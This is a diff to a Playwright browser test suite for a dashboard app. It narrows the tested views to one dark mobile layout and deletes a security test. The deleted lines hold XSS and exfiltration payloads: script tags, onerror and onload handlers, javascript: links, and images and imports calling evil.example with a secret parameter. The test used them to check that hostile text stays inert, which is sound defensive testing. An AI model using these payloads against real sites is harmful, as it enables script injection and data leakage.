@@ -9,27 +9,13 @@ from playwright.sync_api import Page, TimeoutError, expect
 from pages.shared.demo import DEMO_PROTOCOLS, DEMO_SEEDS, demo_spec
 from pages.shared.resources import missions
 from swarm.history import History
-from swarm.mission import Mission, Requirement
-from swarm.verdict import CRITERIA, Score, Verdict
-from tests.browser.looking import Dashboard, badge, keep_picture, look, settled, wait_until, widths
+from tests.browser.looking import Dashboard, badge, fits, keep_picture, look, settled, wait_until, widths
 from tests.made import keep, told
 from tests.recorded import a_turn, events_of
 
 pytestmark = pytest.mark.browser
-LOOKS = [(1440, "light"), (1440, "dark"), (390, "light"), (390, "dark")]
-OPENED = LOOKS[::3]
-"""From each of these, a page takes the other width as well."""
-PAYLOADS = (
-    "![pixel](http://evil.example/pixel.png?secret=1)",
-    "![ref][x]\n\n[x]: http://evil.example/ref.png",
-    "[click](javascript:alert(1)) <http://evil.example/auto> [id]: <b>",
-    "http://evil.example/bare HTTPS://evil.example www.evil.example a@evil.example xmpp:a@evil.example",
-    "<script>window.hit=1</script><img src=http://evil.example/img.png onerror=window.hit=1>",
-    "<svg onload=window.hit=1></svg><style>@import 'http://evil.example/a.css';</style>",
-    "<iframe src=http://evil.example></iframe><a href='http://evil.example'>link</a>",
-    ":red[red] :material/home: $x^2$ :smile: # heading\n- item | a | b |",
-)
-HOSTILE = " ".join(PAYLOADS)
+DARK = (390, "dark")
+"""What differs most from what the other tests look at; a page takes the other width from there as well."""
 
 
 def run_shown(page: Page) -> str:
@@ -42,21 +28,14 @@ def open_page(page: Page, dashboard: Dashboard, path: str = "/") -> None:
     settled(page)
 
 
-def fits(page: Page, width: int) -> None:
-    """Nothing is wider than the window; what is drawn anew for it may take a moment."""
-    page.wait_for_function(f"document.documentElement.scrollWidth <= {width}")
-
-
-@pytest.mark.parametrize(("width", "scheme"), OPENED)
-def test_the_pages_of_an_empty_dashboard(dashboard, browser, width, scheme):
-    page = look(browser, width, scheme)
+def test_the_pages_of_an_empty_dashboard(dashboard, browser):
+    page = look(browser, *DARK)
     for name in ("start", "compose", "run", "side_by_side", "experiments", "claims", "history", "models"):
         open_page(page, dashboard, "/" if name == "start" else f"/{name}")
         for wide in widths(page):
             expect(page.get_by_role("heading", level=1)).to_be_visible()
-            expect(page.locator('[data-testid="stException"]')).to_have_count(0)
             fits(page, wide)
-            keep_picture(page, f"empty-{name}-{wide}-{scheme}")
+            keep_picture(page, f"empty-{name}-{wide}-dark")
 
 
 def test_one_button_and_a_team_organizes_itself(dashboard, browser):
@@ -78,27 +57,25 @@ def test_one_button_and_a_team_organizes_itself(dashboard, browser):
     said = page.get_by_text("Sequential scored").inner_text()
     assert len(History(dashboard.settings).runs()) == 2
     link = page.url
-    for width, scheme in OPENED:
-        other = look(browser, width, scheme)
-        other.goto(link)
-        settled(other)
-        for wide in widths(other):
-            expect(other.get_by_text("Sequential scored")).to_have_text(said)
-            expect(other.locator(".js-plotly-plot")).to_have_count(2)
-            expect(other.locator(".js-plotly-plot .textpoint").last).to_be_visible()
-            fits(other, wide)
-            keep_picture(other, f"side-by-side-{wide}-{scheme}")
-        other.get_by_role("link", name="Open this run").first.click()
-        other.wait_for_url(f"**/run?run={parse_qs(urlparse(link).query)['pair'][0]}")
-        settled(other)
-        for wide in widths(other):
-            expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
-            keep_picture(other, f"demo-finished-{wide}-{scheme}")
-        open_page(other, dashboard)
-        for wide in widths(other):
-            expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
-            keep_picture(other, f"start-{wide}-{scheme}")
-        other.context.close()
+    other = look(browser, *DARK)
+    other.goto(link)
+    settled(other)
+    for wide in widths(other):
+        expect(other.get_by_text("Sequential scored")).to_have_text(said)
+        expect(other.locator(".js-plotly-plot")).to_have_count(2)
+        expect(other.locator(".js-plotly-plot .textpoint").last).to_be_visible()
+        fits(other, wide)
+        keep_picture(other, f"side-by-side-{wide}-dark")
+    other.get_by_role("link", name="Open this run").first.click()
+    other.wait_for_url(f"**/run?run={parse_qs(urlparse(link).query)['pair'][0]}")
+    settled(other)
+    for wide in widths(other):
+        expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+        keep_picture(other, f"demo-finished-{wide}-dark")
+    open_page(other, dashboard)
+    for wide in widths(other):
+        expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+        keep_picture(other, f"start-{wide}-dark")
 
 
 def test_playing_again_shows_another_pair_and_one_can_go_back(dashboard, browser):
@@ -190,47 +167,6 @@ def test_a_run_is_deleted_after_two_clicks(dashboard, browser):
     page.get_by_role("dialog").get_by_role("button", name="Delete").click()
     expect(page.get_by_text("No run yet.")).to_be_visible()
     assert not History(dashboard.settings).count()
-
-
-def test_hostile_text_stays_text(dashboard, browser):
-    mission = Mission("own", HOSTILE[:200], HOSTILE, (HOSTILE,), (Requirement(HOSTILE),))
-    turns = [
-        a_turn(1, role=HOSTILE, text=HOSTILE, reason=HOSTILE, notes=(HOSTILE,)),
-        a_turn(2, "abstain", reason=HOSTILE),
-    ]
-    judged = Verdict("sim/judge", tuple(Score(name, 3, HOSTILE) for name in CRITERIA))
-    keep(dashboard.settings, events_of(turns, judged=judged, spec={"warnings": (HOSTILE,)}, mission=mission))
-    page = look(browser)
-    outside: list[str] = []
-    page.on("request", lambda request: outside.append(request.url) if "evil" in request.url else None)
-    open_page(page, dashboard)
-    open_page(page, dashboard, "/history")
-    page.get_by_role("combobox", name="Choose by keyboard").click()
-    page.get_by_role("option").first.click()
-    settled(page)
-    assert_harmless(page)
-    open_page(page, dashboard, "/run?run=20261122-120000-abc123")
-    for view in ("Transcript", "Deliverable", "Verdict", "Tokens and cost", "Recipe"):
-        page.get_by_role("tab", name=view).click()
-        settled(page)
-        assert_harmless(page)
-    keep_picture(page, "hostile-1440-light")
-    open_page(page, dashboard, "/compose")
-    page.get_by_text("Your own words").click()
-    page.get_by_label("Goal").fill(HOSTILE)
-    page.get_by_label("Goal").press("Control+Enter")
-    settled(page)
-    assert_harmless(page)
-    assert outside == []
-
-
-def assert_harmless(page: Page) -> None:
-    """Nothing of the payloads became part of the page but as text."""
-    assert page.evaluate("typeof window.hit") == "undefined"
-    found = page.locator(
-        'a[href*="evil"], img[src*="evil"], iframe[src*="evil"], [href^="javascript"], .katex'
-    )
-    assert found.evaluate_all("all => all.map(it => it.outerHTML)") == []
 
 
 def test_headers_keep_the_browser_on_this_machine(dashboard, browser):
